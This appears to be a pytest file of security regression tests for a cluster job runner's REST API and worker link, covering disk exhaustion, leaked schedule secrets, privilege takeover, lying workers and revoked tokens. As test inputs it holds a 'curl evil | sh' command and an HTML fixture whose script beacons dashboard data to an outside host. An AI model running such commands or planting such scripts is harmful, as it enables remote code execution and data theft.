"""Attacks on the REST API and the worker link, each a reproduction as a user would see it
(docs/security.md, "Attacked on 2026-12-05"): real masters and workers, loopback only."""

import base64
import hashlib
import json
import os
import signal
import socket
import time
import urllib.request

import pytest

from conftest import small_tmpfs, wait_until
from pcci import protocol

MB = 1024 * 1024


@pytest.fixture
def small_disk(tmp_path):
    with small_tmpfs(tmp_path, "160m") as path:
        yield path


@pytest.mark.root      # mounts a tmpfs
def test_a_fetch_larger_than_the_masters_free_disk_is_refused_and_the_master_keeps_storing(
        cluster, small_disk, tmp_path):
    cluster.start_master(state_dir=os.path.join(small_disk, "master"))
    cluster.start_worker("pi1")
    huge = tmp_path / "huge.img"
    with open(huge, "wb") as handle:
        handle.truncate(400 * MB)           # sparse: cheap to read, 400 MiB to store
    status, submitted = cluster.api("POST", "/fetch", {"workers": ["pi1"], "path": str(huge)})
    assert status == 202, submitted
    status, pool = cluster.api("GET", "/pool/%s?wait=60" % submitted["id"])
    job = pool["jobs"]["pi1"]
    assert pool["status"] == "done" and job["state"] != "succeeded", job
    disk = os.statvfs(small_disk)
    assert disk.f_bavail * disk.f_frsize > 32 * MB          # the spool did not eat the disk
    assert "storage" in job["stderr"] or "disk" in job["stderr"], job
    done = cluster.run("echo still here", ["pi1"])
    assert done["jobs"]["pi1"]["stdout"] == "still here\n"


@pytest.mark.root      # mounts a tmpfs
def test_two_uploads_that_each_fit_but_not_together_the_second_is_refused(cluster, small_disk):
    """Each PUT /files once saw the same free disk: two at once filled it to the last byte."""
    cluster.start_master(state_dir=os.path.join(small_disk, "master"))
    size = 80 * MB
    first = socket.create_connection(("127.0.0.1", cluster.api_port), timeout=30)
    try:
        first.sendall(("PUT /files/%s?size=%d HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: %d\r\n\r\n"
                       % ("a" * 64, size, size)).encode() + b"\0" * MB)
        part = os.path.join(small_disk, "master", "files", "a" * 64 + ".part")
        wait_until(lambda: os.path.exists(part) and os.path.getsize(part) == MB, what="the first upload under way")
        status, refused = cluster.api("PUT", "/files/%s?size=%d" % ("b" * 64, size), raw=b"\0" * MB)
        assert (status, refused["error"]["code"]) == (503, "storage_full"), refused
        assert "promised" in refused["error"]["message"]
    finally:
        first.close()
    assert "PUT /files/%s by local" % ("b" * 64) in cluster.master.log()
    # The first one's promise ends with its connection: a small upload fits again.
    wait_until(lambda: cluster.api("PUT", "/files/%s?size=1" % ("c" * 64), raw=b"x")[1]["error"]["code"]
               == "sha256_mismatch", what="room again")


def test_a_read_token_sees_no_secret_of_a_schedule_and_nobody_sees_its_notify_secret(in_process):
    """GET /schedules showed a read token what GET /pool/ID hides from it: the notify
    secret (shown to nobody there), the URL's path (it may hold a token), stdin, a copied
    file's content, besides env values (hidden already)."""
    from test_notify import LOOPBACK_ALLOWED
    read, operate = "r" * 24, "o" * 24
    master = in_process(api_tokens=[{"name": "viewer", "scope": "read", "token": read},
                                    {"name": "ops", "scope": "operate", "token": operate}], **LOOPBACK_ALLOWED)
    hook = "http://127.0.0.1:9/hooks/T0KEN-IN-PATH"
    job = {"name": "nightly", "when": "every 1h", "cmd": "backup.sh", "env": {"DB_PASSWORD": "pw-env"},
           "stdin": "pw-stdin", "notify": [{"url": hook, "on": ["failed"], "secret": "pw-notify"}, {"url": hook}]}
    copy = {"name": "motd", "when": "every 1h", "copy": {"dest": "/etc/motd", "content": "cHctY29udGVudA=="}}
    for body in (job, copy):
        status, made = master.api("POST", "/schedules", body, token=operate)
        assert status == 201, made
        assert "pw-notify" not in json.dumps(made)
    for token in (read, operate):
        for path in ("/schedules", "/schedules/nightly", "/schedules/motd"):
            status, seen = master.api("GET", path, token=token)
            text = json.dumps(seen)
            assert status == 200 and "pw-notify" not in text, (path, text)
            if token == read:
                assert not [secret for secret in ("pw-env", "pw-stdin", "T0KEN", "cHctY29udGVudA==") if secret in text]
    _, mine = master.api("GET", "/schedules/nightly", token=operate)
    assert mine["env"] == {"DB_PASSWORD": "pw-env"} and mine["stdin"] == "pw-stdin"
    assert mine["notify"] == [{"url": hook, "on": ["failed"], "signed": True},
                              {"url": hook, "on": ["failed"], "signed": False}]
    _, theirs = master.api("GET", "/schedules/nightly", token=read)
    assert theirs["env"] == {"DB_PASSWORD": None} and "stdin" not in theirs
    assert theirs["notify"][0] == {"url": "http://127.0.0.1:9/...", "on": ["failed"], "signed": True}
    # A change that leaves notify alone keeps its secret.
    assert master.api("PUT", "/schedules/nightly", {"cmd": "backup.sh --full"}, token=operate)[0] == 200
    assert master.master.scheduler.get("nightly").row.body["notify"][0]["secret"] == "pw-notify"



def test_an_operate_token_cannot_take_over_an_admins_root_schedule_by_unsetting_its_user(in_process):
    """The admin check looked at the schedule as changed only: {"user": null} made it a
    schedule "not as root", so an operate token could rewrite (or disable) it."""
    operate, admin = "o" * 24, "a" * 24
    master = in_process(api_tokens=[{"name": "ops", "scope": "operate", "token": operate},
                                    {"name": "boss", "scope": "admin", "token": admin}])
    rooted = {"name": "patch", "when": "every 1h", "cmd": "apt-get -y upgrade", "user": "root"}
    assert master.api("POST", "/schedules", rooted, token=admin)[0] == 201
    for change in ({"user": None, "cmd": "curl evil | sh"}, {"user": None}, {"enabled": False}):
        status, refused = master.api("PUT", "/schedules/patch", change, token=operate)
        assert (status, refused["error"]["code"]) == (403, "insufficient_scope"), (change, refused)
    _, seen = master.api("GET", "/schedules/patch", token=admin)
    assert seen["user"] == "root" and seen["cmd"] == "apt-get -y upgrade" and seen["enabled"] is True
    status, refused = master.api("PUT", "/schedules/patch", ["user"], token=admin)
    assert (status, refused["error"]["code"]) == (400, "wrong_type")      # not a 500
    assert master.api("PUT", "/schedules/patch", {"user": None}, token=admin)[0] == 200


def test_a_fetch_whose_bytes_do_not_match_the_workers_sha256_fails_instead_of_succeeding(cluster):
    """A lying (or racing) worker: its chunks' sha256 is not the one its last chunk names,
    or it reports success having sent nothing. The master dropped the bytes but the job
    still said "succeeded", with no file behind GET /pool/ID/files/NODE."""
    from raw_worker import RawWorker
    cluster.start_master(heartbeat_timeout="60s")       # it sends no heartbeats
    liar = RawWorker(cluster.worker_port, "pi1", features=[protocol.FILE_COPY, protocol.FILE_FETCH])
    try:
        cluster.wait_online("pi1")
        # Chunks for a fetch it does not run are answered with a kill, and nothing is stored.
        liar.send({"type": protocol.FETCH_CHUNK, "job": "01a2488a-70f2-7141-81a5-0a1e519e3c4d/pi1", "offset": 0,
                   "bytes": 5, "data": base64.b64encode(b"hello").decode(), "sha256": None})
        assert liar.receive_type(protocol.KILL)["job"] == "01a2488a-70f2-7141-81a5-0a1e519e3c4d/pi1"
        for sent in (b"hello", None):
            status, submitted = cluster.api("POST", "/fetch", {"workers": ["pi1"], "path": "/etc/hostname"})
            assert status == 202, submitted
            begin = liar.receive_type(protocol.FETCH_BEGIN)
            if sent is not None:
                liar.send({"type": protocol.FETCH_CHUNK, "job": begin["job"], "offset": 0, "bytes": len(sent),
                           "data": base64.b64encode(sent).decode(),
                           "sha256": hashlib.sha256(b"HELLO").hexdigest()})
                assert liar.receive_type(protocol.FETCH_ACK)["offset"] == len(sent)
            liar.send(protocol.result_message(begin["job"], "succeeded", 0, None, 1, 2, "sent 5 bytes\n", "",
                                              False, False))
            status, pool = cluster.api("GET", "/pool/%s?wait=10" % submitted["id"])
            job = pool["jobs"]["pi1"]
            assert job["state"] == "failed" and "the master holds no whole copy" in job["stderr"], job
            status, missing = cluster.api("GET", "/pool/%s/files/pi1" % submitted["id"])
            assert (status, missing["error"]["code"]) == (404, "unknown_file")
    finally:
        liar.close()
    assert "the master holds no whole copy" in cluster.master.log()


def test_a_fetched_html_file_is_downloaded_by_a_browser_never_rendered_on_the_dashboards_origin(cluster, tmp_path):
    """A worker's file served from the master's origin: an HTML page among them, opened
    in the browser that holds the dashboard's token, would run its script as the dashboard."""
    import urllib.error
    import urllib.request
    cluster.start_master()
    cluster.start_worker("pi1")
    page = tmp_path / "report.html"
    page.write_text("<script>fetch('/pools').then(r => r.text()).then(t => navigator.sendBeacon('//x', t))</script>")
    status, submitted = cluster.api("POST", "/fetch", {"workers": ["pi1"], "path": str(page)})
    assert status == 202
    assert cluster.api("GET", "/pool/%s?wait=30" % submitted["id"])[1]["jobs"]["pi1"]["state"] == "succeeded"
    with urllib.request.urlopen("http://127.0.0.1:%d/pool/%s/files/pi1" % (cluster.api_port, submitted["id"]),
                                timeout=30) as answer:
        assert answer.read() == page.read_bytes()
        assert answer.headers["Content-Disposition"] == "attachment"
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert answer.headers["Content-Security-Policy"].startswith("sandbox")
    for path in ("/pool/%s" % submitted["id"], "/metrics", "/no-such-route"):
        try:
            answer = urllib.request.urlopen("http://127.0.0.1:%d%s" % (cluster.api_port, path), timeout=30)
        except urllib.error.HTTPError as error:
            answer = error
        assert answer.headers["X-Content-Type-Options"] == "nosniff", path


def test_a_revoked_token_s_schedule_stops_firing_until_a_current_token_takes_it_over(cluster, tmp_path):
    """A schedule acts for the token that last changed it. Revoked (or lowered to read),
    that token's schedule went on running its pools, unattended, forever."""
    tokens_file = tmp_path / "api-tokens"
    leaver, stays = "leaver-" + "a" * 20, "stays-" + "b" * 20
    tokens_file.write_text("%s mallory operate\n%s alice operate\n" % (leaver, stays))
    tokens_file.chmod(0o600)
    cluster.start_master(api_tokens_file=str(tokens_file), schedule_min_interval="1s")
    cluster.token = stays
    cluster.start_worker("pi1")
    mark = tmp_path / "ran"
    status, made = cluster.api("POST", "/schedules", {"name": "beacon", "when": "every 1s", "workers": ["pi1"],
                                                      "cmd": "echo x >> %s" % mark}, token=leaver)
    assert status == 201, made
    wait_until(mark.exists, timeout=15, what="the schedule firing")
    for revoked in ("%s alice operate\n" % stays, "%s mallory read\n%s alice operate\n" % (leaver, stays)):
        tokens_file.write_text(revoked)
        cluster.master.signal(signal.SIGHUP)
        wait_until(lambda: cluster.api("GET", "/schedules/beacon", token=stays)[1]["lastRun"]["outcome"] == "refused",
                   timeout=15, what="the due time refused")
        last = cluster.api("GET", "/schedules/beacon", token=stays)[1]["lastRun"]
        assert "mallory" in last["error"] and last["pool"] is None, last
    assert "schedule beacon: due time" in cluster.master.log() and "mallory" in cluster.master.log()
    # A current operate token's change makes the schedule its own: it fires again.
    assert cluster.api("PUT", "/schedules/beacon", {"enabled": True}, token=stays)[0] == 200
    wait_until(lambda: cluster.api("GET", "/schedules/beacon", token=stays)[1]["lastRun"]["outcome"] in
               ("running", "succeeded"), timeout=15, what="firing again for alice")
    assert cluster.api("GET", "/schedules/beacon", token=stays)[1]["changedBy"] == "alice"


def _fill(directory):
    from test_disk_full import fill
    return fill(directory)


@pytest.mark.root      # mounts a tmpfs
def test_an_upload_that_meets_a_disk_filled_by_someone_else_is_503_and_resumes(cluster, small_disk):
    """The disk account cannot see what other programs write: a full disk mid-upload was a
    400 malformed_request, as if the client had broken the body."""
    cluster.start_master(state_dir=os.path.join(small_disk, "master"))
    size, sha = 8 * MB, hashlib.sha256(b"\1" * 8 * MB).hexdigest()
    upload = socket.create_connection(("127.0.0.1", cluster.api_port), timeout=30)
    try:
        upload.sendall(("PUT /files/%s?size=%d HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: %d\r\n\r\n"
                        % (sha, size, size)).encode() + b"\1" * MB)
        part = os.path.join(small_disk, "master", "files", sha + ".part")
        wait_until(lambda: os.path.exists(part) and os.path.getsize(part) == MB, what="the upload under way")
        filler = _fill(small_disk)
        try:
            upload.sendall(b"\1" * (size - MB))
        except OSError:
            pass                # the master may answer and close before it has read it all
        answer = upload.makefile("rb").read()
    finally:
        upload.close()
    head, _, body = answer.partition(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.1 503") and json.loads(body)["error"]["code"] == "storage_full", answer[:500]
    os.unlink(filler)
    _, held = cluster.api("GET", "/files/%s" % sha)
    status, done = cluster.api("PUT", "/files/%s?size=%d&offset=%d" % (sha, size, held["received"]),
                               raw=b"\1" * (size - held["received"]))
    assert (status, done["complete"]) == (201, True), done


@pytest.mark.root      # mounts a tmpfs
def test_a_fetch_that_meets_a_disk_filled_by_someone_else_fails_and_the_link_stays(cluster, small_disk, tmp_path):
    """A full disk mid-fetch raised out of the worker link's handler: a traceback, the link
    dropped, the worker redialling to send the same chunk into the same full disk."""
    from linkproxy import LinkProxy
    cluster.start_master(state_dir=os.path.join(small_disk, "master"))
    proxy = LinkProxy(cluster.worker_port)
    filler = None
    try:
        cluster.start_worker("pi1", master_port=proxy.port)
        source = tmp_path / "big.img"
        with open(source, "wb") as handle:
            handle.truncate(60 * MB)
        proxy.shape(delay=0.004)
        status, submitted = cluster.api("POST", "/fetch", {"workers": ["pi1"], "path": str(source)})
        assert status == 202
        spool = os.path.join(small_disk, "master", "fetched", submitted["id"])
        wait_until(lambda: os.path.isdir(spool) and sum(os.path.getsize(os.path.join(spool, name))
                                                        for name in os.listdir(spool)) >= 2 * MB,
                   timeout=60, interval=0.02, what="the fetch under way")
        filler = _fill(small_disk)
        proxy.shape()
        _, pool = cluster.api("GET", "/pool/%s?wait=60" % submitted["id"])
        job = pool["jobs"]["pi1"]
        assert job["state"] == "failed" and "No space left" in job["stderr"], job
        assert "failed unexpectedly" not in cluster.master.log()
        assert [w["online"] for w in cluster.api("GET", "/workers")[1]["workers"]] == [True]
    finally:
        proxy.close()
        if filler is not None:
            os.unlink(filler)


@pytest.mark.slow
def test_a_worker_that_redials_mid_fetch_does_not_make_the_master_read_back_what_it_holds(cluster, tmp_path):
    """After each redial the master read back every byte it held of the fetch to hash them
    again: a worker that redials in a loop (or a flaky link) made it reread up to
    max_copy_bytes each time."""
    import psutil
    from linkproxy import LinkProxy
    cluster.start_master()
    proxy = LinkProxy(cluster.worker_port)
    try:
        cluster.start_worker("pi1", master_port=proxy.port)
        source = tmp_path / "big.log"
        source.write_bytes(os.urandom(MB) * 24)
        proxy.shape(delay=0.004)
        status, submitted = cluster.api("POST", "/fetch", {"workers": ["pi1"], "path": str(source)})
        assert status == 202
        spool = os.path.join(cluster.master.settings["state_dir"], "fetched", submitted["id"])

        def held():
            return sum(os.path.getsize(os.path.join(spool, name)) for name in os.listdir(spool))
        wait_until(lambda: os.path.isdir(spool) and held() >= 12 * MB, timeout=90, interval=0.02,
                   what="half the file on the master")
        master = psutil.Process(cluster.master.process.pid)
        read_before, at_cut = master.io_counters().read_chars, held()
        proxy.cut()
        time.sleep(0.5)
        proxy.restore()
        proxy.shape()
        _, pool = cluster.api("GET", "/pool/%s?wait=90" % submitted["id"])
        assert pool["jobs"]["pi1"]["state"] == "succeeded", pool["jobs"]["pi1"]
        # What it read since: the rest of the file off the link (and the chunks in flight at
        # the cut, sent again), not the part it held as well.
        rest = 24 * MB - at_cut
        assert master.io_counters().read_chars - read_before < rest * 1.1 + 3 * MB + at_cut // 2
        assert "goes on from byte" in cluster.master.log()
    finally:
        proxy.close()
    with urllib.request.urlopen("http://127.0.0.1:%d/pool/%s/files/pi1" % (cluster.api_port, submitted["id"]),
                                timeout=60) as answer:
        assert hashlib.sha256(answer.read()).hexdigest() == hashlib.sha256(source.read_bytes()).hexdigest()
